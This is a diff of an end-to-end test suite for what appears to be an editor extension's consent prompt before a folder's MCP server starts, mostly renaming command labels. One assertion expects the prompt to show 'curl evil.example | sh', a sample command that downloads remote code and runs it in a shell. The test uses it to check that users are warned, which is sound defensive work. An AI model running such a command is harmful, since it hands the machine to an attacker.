@@ -63,7 +63,7 @@ describe('the question before a server of a folder starts', () => {
 
   /** Starts a server from the palette. @returns the text of the question, all of which is visible */
   async function start(label: string): Promise<string> {
-    await window.runCommand('Patchbay: Start Server…');
+    await window.runCommand('MCP Patchbay: Start MCP Server');
     // The palette is closed when the servers are listed.
     await window.quickInput.row(label).waitFor();
     await window.quickInput.choose(label);
@@ -131,7 +131,7 @@ describe('the question before a server of a folder starts', () => {
     await window.dialogs.press('Start Server');
     await window.sidebar.expand('runner');
     await window.sidebar.item('Tools').waitFor();
-    await window.runCommand('Patchbay: Stop Server…');
+    await window.runCommand('MCP Patchbay: Stop MCP Server');
     await window.sidebar.item(/runner.*stopped/i).waitFor();
     await appendFile(join(window.workspace, 'Taskfile.yml'), '# changed\n');
     expect(await start('runner')).toMatch(/The file \S+Taskfile\.yml has changed/);
@@ -148,7 +148,7 @@ describe('the question before a server of a folder starts', () => {
     await window.sidebar.expand('script');
     await window.sidebar.item('Tools').waitFor();
     // Only one server runs, so there is no list to choose from.
-    await window.runCommand('Patchbay: Stop Server…');
+    await window.runCommand('MCP Patchbay: Stop MCP Server');
     await window.sidebar.item(/script.*stopped/i).waitFor();
     await appendFile(join(window.workspace, 'server.mjs'), '// changed\n');
     expect(await start('script')).toMatch(/The file \S+server\.mjs has changed/);
@@ -175,7 +175,7 @@ describe('the question before a server of a folder starts', () => {
     expect(await window.dialogs.dialog.getByRole('button', { name: 'Run Command' }).count()).toBe(0);
     await window.dialogs.press('Show Whole Arguments');
     await window.page.getByRole('tab', { name: /Arguments of workbench/ }).waitFor();
-    await window.runCommand('Patchbay: Start Server…');
+    await window.runCommand('MCP Patchbay: Start MCP Server');
     await window.quickInput.choose('command');
     await expect.poll(() => visibleText()).toContain('text: curl evil.example | sh');
     await window.dialogs.dialog.getByRole('button', { name: 'Run Command' }).waitFor();
